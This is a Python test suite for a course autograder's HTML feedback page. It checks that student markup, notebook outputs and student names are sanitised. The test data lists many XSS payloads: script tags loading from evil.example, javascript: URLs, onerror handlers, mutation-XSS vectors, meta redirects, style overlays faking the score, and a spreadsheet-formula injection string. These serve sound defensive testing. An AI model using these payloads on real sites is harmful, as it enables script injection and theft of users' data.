"""The feedback page: is every kind of student markup inert, is the page readable, bounded and deterministic?

Attacks are checked on what a spec-conforming HTML parser builds from the page (html5lib, the parser behind
bleach, standing in for a browser here; tests/browser/test_feedback_page_in_chromium.py checks the same in Chromium).
"""

import base64
import re

import nbformat
import pytest
from bleach._vendor import html5lib  # a full HTML5 tree builder, as browsers parse (bleach ships it)

from autograder.judge import CellResult, Check
from autograder.pipeline import NotebookGrade
from course import feedback
from course.feedback import clean_html, page_html, render_output, write_feedback_html

PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082")).decode()

DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "frame",
                  "frameset", "applet", "template", "svg", "textarea", "button", "noscript", "xmp", "select",
                  "audio", "video", "foreignobject", "animate", "set", "use"}


def parse(fragment):
    """The element tree a browser builds from ``fragment`` placed inside a div of the page."""
    return html5lib.parseFragment(f'<div id="wrap">{fragment}</div><p id="after">after</p>',
                                  treebuilder="etree", namespaceHTMLElements=False)


def elements(fragment):
    return [el for el in parse(fragment).iter() if isinstance(el.tag, str)]


def local(tag):
    return tag.rsplit("}", 1)[-1].lower()


def problems(fragment, own=False):
    """Everything in the parsed fragment that could run, load, navigate or cover the page (``own``: the
    fragment holds the page's own wrappers, whose classes and ids start with ``bfs``)."""
    found = []
    for el in elements(fragment):
        name = local(el.tag)
        if name in DANGEROUS_TAGS:
            found.append(f"<{name}>")
        for key, value in el.attrib.items():
            key = local(key)
            v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if key.startswith("on") or key in ("formaction", "srcdoc", "action", "xlink:href", "background",
                                               "poster", "srcset", "ping", "http-equiv", "target"):
                found.append(f"{name}[{key}]")
            if key == "href" and not re.match(r"(https?://|mailto:|#)", v):
                found.append(f"{name}[href={value!r}]")
            if key == "src" and not re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", v):
                found.append(f"{name}[src={value!r}]")
            if key == "style" and re.search(r"position|url|expression|margin|transform|\\|top|left|z-index|@", v):
                found.append(f"{name}[style={value!r}]")
            if key in ("id", "class") and v.startswith("bfs") and not own:
                found.append(f"{name}[{key}={value!r}]")
    return found


SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/xss src=data:,alert(1)></script>", '<script type="module">import("//evil.example")</script>',
    "<svg><script>alert(1)</script></svg>", "<math><script>alert(1)</script></math>",
    "<<script>script>alert(1)<</script>/script>", "<script>/*", "<div><script>a</script",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", '<body onload="alert(1)">',
    "<div onmouseover='alert(1)'>x</div>", "<a href=# onclick=alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    "<svg onload=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", '<p title="x" onfocus="alert(1)" tabindex=1>',
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
]
URLS = [
    '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#x6A;avascript&colon;alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="javascript:alert(1)">', "<img src=//evil.example/pixel.png>", '<img src="https://evil.example/t.gif">',
    '<a href="//evil.example">x</a>', '<img src="figure.png">', '<img srcset="https://evil.example/a.png 1x">',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>',
]
ELEMENTS = [
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=p></form>', '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x.swf"></object>', '<embed src="x.swf">',
    '<link rel=stylesheet href="https://evil.example/s.css">', "<frameset><frame src=x></frameset>",
    "<template><img src=x onerror=alert(1)></template>", '<button formaction="javascript:alert(1)">x</button>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="data:x"/></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
]
STYLES = [
    '<style>.bfs-summary{display:none}</style>', '<div style="position:fixed;top:0;left:0;width:100%;'
    'height:100%;background:white;z-index:9999">FAKE 12 / 12</div>', '<p style="margin-top:-2000px">x</p>',
    '<p style="transform:translateY(-900px)">x</p>', '<p style="background:url(https://evil.example/t.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>', '<p style="po\\73ition:fixed">x</p>',
    '<p style="color:red;position:absolute;top:0">x</p>', '<p style="color: rgb(1,2,3) ;  font-weight : bold">x</p>',
    '<p class="bfs-summary" id="bfs-summary">spoof</p>', '<p style="background-image:image-set(\'x\' 1x)">x</p>',
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><img src=x onerror=alert(1)>-->", "<!--->x<img src=x onerror=alert(1)>",
    '<!-- a --!><img src=x onerror=alert(1)>', "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<a title="<img src=x onerror=alert(1)>">x</a>', "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<img src="data:image/png;base64,AAAA" alt="x"onerror=alert(1)>', "<a href='#'\x00onclick=alert(1)>x</a>",
    "<plaintext><img src=x onerror=alert(1)>", "<p <img src=x onerror=alert(1)>",
]

CLASSES = {"script": SCRIPTS, "handler": HANDLERS, "url": URLS, "element": ELEMENTS, "style": STYLES,
           "mutation": MUTATIONS}


@pytest.mark.parametrize("attack", [pytest.param(a, id=f"{k}-{i}") for k, v in CLASSES.items()
                                    for i, a in enumerate(v)])
def test_an_attack_in_student_html_is_inert(attack):
    """Does the sanitised fragment, parsed as a browser would, hold nothing that runs, loads or overlays?"""
    out = clean_html(attack)
    assert not problems(out), (attack, out, problems(out))
    assert clean_html(out) == out, "sanitising twice must change nothing: the output is already canonical"


@pytest.mark.parametrize("attack", [pytest.param(a, id=f"{k}-{i}") for k, v in CLASSES.items()
                                    for i, a in enumerate(v)])
def test_an_attack_cannot_leave_its_box(attack):
    """Does every element of the fragment stay inside its container, whatever it closes or leaves open?"""
    root = parse(clean_html(attack + "</div></section></article></main><p>"))
    wrap = next(el for el in root.iter() if el.get("id") == "wrap")
    after = next(el for el in root.iter() if el.get("id") == "after")
    assert after not in list(wrap.iter())
    top = [local(el.tag) for el in root]
    assert top == ["div", "p"], top


def test_readable_markup_is_kept():
    """Are headings, paragraphs, lists, tables, links, data images and MathML kept as elements?"""
    fragment = ('<h1 id="Intro">Intro</h1><p>a <b>b</b> <em>c</em> <code>d</code></p><ul><li>e</li></ul>'
                '<table class="dataframe"><tr><th>k</th><td colspan="2">v</td></tr></table>'
                '<a href="https://example.org/x?a=1&amp;b=2">link</a>'
                f'<img src="data:image/png;base64,{PNG}" alt="dot" width="10">'
                '<math display="block"><mfrac><mi>a</mi><mi>b</mi></mfrac></math>'
                '<p style="color: red; text-align: center">centred</p>')
    names = [local(el.tag) for el in elements(clean_html(fragment))]
    for name in ("h1", "p", "b", "em", "code", "ul", "li", "table", "th", "td", "a", "img", "math", "mfrac"):
        assert name in names, name
    out = clean_html(fragment)
    assert 'href="https://example.org/x?a=1&amp;b=2"' in out and 'colspan="2"' in out
    assert 'style="color: red; text-align: center"' in out and 'class="dataframe"' in out


def test_text_is_escaped_not_dropped():
    """Is markup-like text shown as the same text (escaped), with entities decoded once?"""
    out = clean_html("a &lt;b&gt; &amp; 1 < 2 > 0 &zzz; \x00")
    assert out == "a &lt;b&gt; &amp; 1 &lt; 2 &gt; 0 &amp;zzz; \ufffd"


def test_deep_nesting_is_capped():
    """Is the depth of what a fragment opens capped (the old sanitiser took minutes on deep nesting)?"""
    out = clean_html("<div>" * 10_000 + "deep" + "</div>" * 10_000)
    assert out.count("<div>") == feedback.MAX_DEPTH and "deep" in out
    out = clean_html("<b><i>" * 5_000 + "x")
    assert out.count("<b>") + out.count("<i>") == feedback.MAX_DEPTH


def grade_with(cells, student="alice", **kw):
    grade = NotebookGrade(student, "02_simple_layers", "simple_layers.ipynb", 2, **kw)
    grade.cells = [CellResult("mul_layer_forward", 1, [Check("forward", True)]),
                   CellResult("mul_layer_backward", 1, [Check("backward", False, "dx is <b>off</b>")])]
    grade.feedback = nbformat.v4.new_notebook(cells=cells)
    return grade


def out(data, metadata=None, kind="display_data"):
    if kind == "execute_result":
        return nbformat.v4.new_output(kind, data=data, metadata=metadata or {}, execution_count=1)
    return nbformat.v4.new_output(kind, data=data, metadata=metadata or {})


def test_every_output_type_is_rendered_safely():
    """Is each output type nbconvert can render shown safely: scripts never, images only as data: images?"""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><circle r="3"/></svg>'
    cases = {
        "html": out({"text/html": "<h3>Table</h3><script>alert(1)</script>", "text/plain": "x"}),
        "markdown": out({"text/markdown": "**bold** <img src=x onerror=alert(1)> $x^2$"}),
        "svg": out({"image/svg+xml": svg}),
        "latex": out({"text/latex": r"$\href{javascript:alert(1)}{x} + \frac{1}{2}$"}),
        "javascript": out({"application/javascript": "window.pwned = 1", "text/plain": "<IPython.Javascript>"}),
        "widget": out({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "IntSlider"}),
        "png": out({"image/png": PNG}, {"image/png": {"width": "1 onerror=alert(1)", "height": 20}}),
        "png-top-metadata": out({"image/png": PNG}, {"width": 30, "height": "30\" onload=\"alert(1)"}),
        "jpeg-bad-base64": out({"image/jpeg": '"><script>alert(1)</script>'}),
        "mermaid": out({"text/vnd.mermaid": "graph TD; A-->B<script>alert(1)</script>"}),
        "pdf": out({"application/pdf": "JVBERi0="}),
        "unknown": out({"application/x-evil": "<script>alert(1)</script>"}),
        "plain": out({"text/plain": "<script>alert(1)</script>"}, kind="execute_result"),
        "stream": nbformat.v4.new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m <script>x</script>"),
        "error": nbformat.v4.new_output("error", ename="ValueError", evalue="<b>bad</b>",
                                        traceback=["\x1b[0;31mValueError\x1b[0m: <img src=x onerror=alert(1)>"]),
        "odd-kind": {"output_type": "<script>alert(1)</script>"},
    }
    for name, output in cases.items():
        html = render_output(output)
        assert not problems(html, own=True), (name, html, problems(html, own=True))
        assert "<script" not in html.lower() and "\x1b" not in html, (name, html)
    assert "<h3>Table</h3>" in render_output(cases["html"])
    assert "<strong>bold</strong>" in render_output(cases["markdown"]) and "<math" in render_output(cases["markdown"])
    assert '<img src="data:image/svg+xml;base64,' in render_output(cases["svg"])
    assert "<mfrac>" in render_output(cases["latex"]) and "javascript" not in render_output(cases["latex"])
    assert "JavaScript, which a feedback page never runs" in render_output(cases["javascript"])
    assert "interactive widget" in render_output(cases["widget"])
    assert 'height="20"' in render_output(cases["png"]) and "width" not in render_output(cases["png"])
    assert 'width="30"' in render_output(cases["png-top-metadata"])
    assert "height" not in render_output(cases["png-top-metadata"])
    assert "not valid" in render_output(cases["jpeg-bad-base64"])
    assert "application/pdf" in render_output(cases["pdf"]) and "not shown" in render_output(cases["unknown"])
    assert '<span class="ansi-red-fg">red</span>' in render_output(cases["stream"])
    assert "&lt;img src=x onerror=alert(1)&gt;" in render_output(cases["error"])


def test_markdown_cells_render_headings_math_attachments_and_inert_html():
    """Do markdown cells become headings, MathML and data: images, with the student's raw HTML inert?"""
    md = nbformat.v4.new_markdown_cell(
        "# Heading one\n\nSome *text* and $\\frac{\\partial L}{\\partial x}$.\n\n$$y = x W + b$$\n\n"
        "![diagram](attachment:d.png) ![gone](attachment:missing.png) ![page](attachment:p.html)\n\n"
        "<div style=\"position:fixed;top:0\" onclick=\"alert(1)\">raw <b>html</b></div>\n\n"
        "[click](javascript:alert(1)) <a href='javascript:alert(2)'>me</a>\n\n```python\nx = 1\n```\n")
    md["attachments"] = {"d.png": {"image/png": PNG}, "p.html": {"text/html": "<script>alert(1)</script>"}}
    page = page_html(grade_with([md]))
    body = page.split("<article", 1)[1]
    assert not problems(body, own=True), problems(body, own=True)
    assert re.search(r"<h1 id=\"Heading-one\">Heading one", body)
    assert body.count("<math") == 2 and "<mfrac>" in body and "\\frac" not in body and "$$" not in body
    assert f'src="data:image/png;base64,{PNG}"' in body
    assert "[image: gone]" in body and "[image: page]" in body
    assert "<div>raw <b>html</b></div>" in body and '<span class="kn">' not in body
    assert 'class="highlight"' in body or "<code" in body
    assert "&lt;h1" not in page and "&lt;p&gt;" not in page


def test_code_is_highlighted_and_escaped():
    """Is code shown highlighted, with every character of it shown as text?"""
    source = '</pre></section><script>alert(1)</script>\nimport numpy as np  # <b> & "q"'
    page = page_html(grade_with([nbformat.v4.new_code_cell(source)]))
    assert not problems(page.split("<article", 1)[1], own=True)
    assert '<span class="kn">import</span>' in page
    doc = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    pre = next(el for el in doc.iter() if el.tag == "pre" and "bfs-source" in el.get("class", ""))
    assert "".join(pre.itertext()) == source + "\n"


@pytest.mark.parametrize("student", ["<img src=x onerror=alert(1)>", "**bold**", "</title><script>alert(1)</script>",
                                     '"><svg onload=alert(1)>', "=cmd|' /C calc'!A0"])
def test_student_id_and_names_are_text_in_the_header(student):
    """Does a student id (or name) with markup show as that exact text, in the title and the header?"""
    grade = grade_with([], student=student, notes=["<i>note</i>"], reason="<b>reason</b>")
    grade.first_name, grade.last_name = "<u>Ann</u>", "**Lee**"
    page = page_html(grade)
    assert not problems(page.split("<body>", 1)[1], own=True)
    doc = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    title = doc.find(".//title").text
    assert student in title
    header = doc.find(".//header")
    text = "".join(header.itertext())
    assert f"Student: {student} (<u>Ann</u> **Lee**)" in text
    assert "<b>reason</b>" in text and "<i>note</i>" in text
    assert [local(e.tag) for e in header.iter() if local(e.tag) in ("img", "svg", "script", "i", "b", "u")] == []


def test_the_page_has_no_script_and_a_strict_policy():
    """Does the page carry a policy that forbids scripts and loads, and no <script> of its own?"""
    page = page_html(grade_with([nbformat.v4.new_markdown_cell("$x$")]))
    assert "<script" not in page.lower() and "mathjax" not in page.lower()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)[1]
    assert "default-src 'none'" in policy and "img-src data:" in policy and "script" not in policy


def test_the_score_table_comes_first():
    """Is the summary with the score table the first thing in the page's body?"""
    grade = grade_with([nbformat.v4.new_markdown_cell("# Student heading")])
    doc = html5lib.parse(page_html(grade), treebuilder="etree", namespaceHTMLElements=False)
    first = next(el for el in doc.find(".//main"))
    assert first.tag == "header" and first.find(".//table") is not None
    rows = [["".join(td.itertext()) for td in tr] for tr in first.find(".//tbody")]
    assert rows == [["mul_layer_forward", "1", "1"], ["mul_layer_backward", "0", "1"]]


def test_outputs_and_the_page_are_capped_with_a_note():
    """Is a huge output cut with a note, and does the page stop growing at its cap, with a note?"""
    big = "x" * (feedback.MAX_OUTPUT_CHARS + 10)
    html = render_output(nbformat.v4.new_output("stream", name="stdout", text=big))
    assert "cut: showing the first 200,000 of 200,010 characters" in html
    assert len(html) < feedback.MAX_OUTPUT_CHARS + 1000
    cells = [nbformat.v4.new_code_cell("print()", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text="y" * 150_000)]) for _ in range(40)]
    page = page_html(grade_with(cells))
    assert feedback.MAX_PAGE_CHARS - 200_000 < len(page) <= feedback.MAX_PAGE_CHARS + 50_000  # + the summary, CSS
    assert page.count("The rest of this notebook is not shown") == 1
    huge = render_output(out({"image/png": "A" * (feedback.MAX_IMAGE_CHARS + 4)}))
    assert "<img" not in huge and "larger than" in huge


def test_the_same_notebook_gives_the_same_bytes(tmp_path):
    """Is the page byte-identical across renders, however much the notebook prints?"""
    cells = [nbformat.v4.new_code_cell("for i in range(10**6): print(i)", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text="".join(f"{i}\n" for i in range(300_000))),
        out({"text/html": "<b>" * 1000 + "x"}), out({"application/javascript": "1"})])]
    write_feedback_html(grade_with(cells), tmp_path / "a.html")
    write_feedback_html(grade_with(cells), tmp_path / "b.html")
    assert (tmp_path / "a.html").read_bytes() == (tmp_path / "b.html").read_bytes()


def test_a_page_that_cannot_be_rendered_still_shows_the_scores(tmp_path, monkeypatch):
    """If rendering a notebook fails, is a page with the score table written and the failure reported?"""
    monkeypatch.setattr(feedback, "cells_html", lambda nb: 1 / 0)
    problems_seen = feedback.write_feedback_pages([(grade_with([]), tmp_path / "p.html")], workers=1)
    assert problems_seen and "ZeroDivisionError" in problems_seen[0]
    page = (tmp_path / "p.html").read_text()
    assert "mul_layer_backward" in page and "could not be shown" in page


def test_svg_output_is_an_image_that_keeps_its_drawing():
    """Is an SVG output shown as an <img> (no script runs in an image) holding the same SVG?"""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="5" height="5"/></svg>'
    html = render_output(out({"image/svg+xml": svg}))
    src = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', html)[1]
    assert base64.b64decode(src).decode() == svg


def test_a_malformed_notebook_still_renders():
    """Do odd shapes (lists where dicts belong, non-text data, missing keys) render instead of failing the page?"""
    cells = [{"cell_type": "code", "source": ["print(", "1)"], "metadata": [], "outputs": "oops"},
             {"cell_type": "code", "source": "x", "metadata": {"nbgrader": "no"}, "outputs": [
                 {"output_type": "display_data", "data": ["text/html"], "metadata": []},
                 {"output_type": "display_data", "data": {"text/html": {"not": "text"}}, "metadata": {"width": []}},
                 {"output_type": "display_data", "data": {"image/png": 12}},
                 {"output_type": "stream"}, {"output_type": "error"}, "not an output"]},
             {"cell_type": "markdown", "source": None, "attachments": ["x"]}, {"no": "type"}, "not a cell"]
    grade = grade_with([])
    grade.feedback = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    page = page_html(grade)
    assert "print(1)" in "".join(html5lib.parse(page, treebuilder="etree").itertext())
    assert "Error: " in page and not problems(page.split("<article", 1)[1], own=True)


@pytest.mark.parametrize("source, formulas", [
    ("a $x$ b $$y$$ c \\\\[z\\\\] d \\\\(w\\\\) e \\begin{align}q\\end{align}", ["x", "y", "z", "w",
                                                                             "\\begin{align}q\\end{align}"]),
    ("`$x$` and $y$", ["y"]), ("```\n$x$\n```\n$z$", ["z"]), ("$a$$b$", ["a", "b"]), ("\\$5 and $x$", ["x"]),
    ("costs $5\n\nand $6", []), ("$$\\begin{cases} a \\\\ b \\end{cases}$$", ["\\begin{cases} a \\\\ b \\end{cases}"]),
    ("\\\\[" * 1000, []), ("\\begin{a}" * 1000, []), ("$" + "x" * 10 + "\n\n$", []),
])
def test_formulas_are_found_where_jupyter_finds_them(source, formulas):
    """Are formulas found in one pass, outside code, never across a paragraph, unclosed openers left as text?"""
    text, found = feedback.extract_math(source)
    assert [latex for _, latex, _ in found] == formulas
    assert text.count("\ue000") == len(formulas)


def test_formulas_become_mathml_and_stay_text_in_code_and_ids():
    """Is a formula MathML in prose, but its source in a code block and in a heading's id?"""
    html = feedback.markdown_html("# The $\\alpha$ rule\n\n    indented $x$\n\ntext $\\frac{1}{2}$ `$y$`")
    assert '<h1 id="The-%24%5Calpha%24-rule">The <math display="inline"><mrow><mi>α</mi>' in html
    assert "<pre><code>indented $x$</code></pre>" in html and "<code>$y$</code>" in html
    assert "<mfrac>" in html
    many = feedback.markdown_html("$x$ " * (feedback.MAX_FORMULAS + 5))
    assert many.count("<math") == feedback.MAX_FORMULAS and many.count('class="math-source"') == 5
    broken = feedback.markdown_html("$\\frac{1}{$ and $\\unknowncommand{x}$")
    assert not problems(broken) and ("<math" in broken or "math-source" in broken)


def test_a_forged_formula_slot_is_harmless():
    """Can character references that spell the page's own formula slots do more than show a replacement mark?"""
    html = feedback.markdown_html("$x$ <b>&#xe000;7&#xe001; &#xe000;0&#xe001;</b>")
    assert not problems(html) and "\ufffd" in html and html.count("<math") == 2
    assert feedback.markdown_html("<i>&#xe000;3&#xe001;</i>") == "<p><i>\ue0003\ue001</i></p>\n"
